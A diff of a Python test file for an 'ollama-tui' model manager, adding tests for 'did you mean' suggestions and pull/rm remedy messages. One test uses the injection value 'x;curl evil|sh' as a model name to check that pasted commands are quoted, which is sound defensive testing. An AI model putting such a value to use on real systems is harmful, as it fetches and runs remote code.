@@ -161,12 +161,35 @@ class TestCommandsToPaste:
         hostile = "x;curl evil|sh"
 
         with pytest.raises(NoSuchModel) as absent:
-            Library().installed(hostile)
+            Library().installed(hostile, can_be_pulled=True)
         with pytest.raises(Refused) as taken:
             refuse_taken(Library((Model(hostile),)), hostile)
 
         assert absent.value.remedy == f"`ollama-tui pull '{hostile}'` fetches it."
         assert taken.value.remedy == f"`ollama-tui rm '{hostile}'` deletes it first."
+
+
+class TestANameThatIsNotInstalled:
+    @pytest.mark.parametrize(
+        ("name", "remedy"),
+        [
+            ("qwen3", "Did you mean qwen3:8b?"),
+            ("tiiny", "Did you mean tiny?"),
+            ("zzz", "`ollama-tui ls` lists what is."),
+        ],
+    )
+    def test_the_nearest_is_named_or_where_all_are_listed(self, name: str, remedy: str) -> None:
+        with pytest.raises(NoSuchModel) as absent:
+            Library((Model("qwen3:8b"), Model("tiny:latest"))).installed(name)
+
+        assert absent.value.remedy == remedy
+
+    def test_where_it_can_be_pulled_that_is_said_too(self) -> None:
+        with pytest.raises(NoSuchModel) as absent:
+            Library((Model("qwen3:8b"),)).installed("qwen3", can_be_pulled=True)
+
+        pull = "`ollama-tui pull qwen3` fetches it."
+        assert absent.value.remedy == f"Did you mean qwen3:8b? {pull}"
 
 
 def test_only_what_is_known_not_to_fit_is_left_out() -> None:
